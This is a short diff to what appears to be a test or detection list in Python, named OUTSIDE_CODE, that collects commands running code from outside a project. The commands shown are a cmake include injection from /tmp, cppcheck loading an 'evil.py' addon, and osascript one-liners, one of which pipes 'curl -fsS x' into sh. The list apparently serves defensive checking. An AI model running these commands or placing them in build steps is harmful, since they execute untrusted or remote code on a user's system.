@@ -58,7 +58,7 @@ OUTSIDE_CODE = [
     "cmake -B build -DCMAKE_PROJECT_INCLUDE=/tmp/inject.cmake",
     "cppcheck --addon=/tmp/addons/evil.py src",
     "cppcheck --addon /tmp/addons/evil.py src",
-    "osascript -l JavaScript -e 'ObjC.import(\"stdlib\"); $.system(\"curl -fsS x | sh\")'",
+    'osascript -l JavaScript -e \'ObjC.import("stdlib"); $.system("curl -fsS x | sh")\'',
     "osascript -l AppleScript -e 'do shell script \"id\"'",
 ]
 # Uploads hidden in a test or build tool's options.
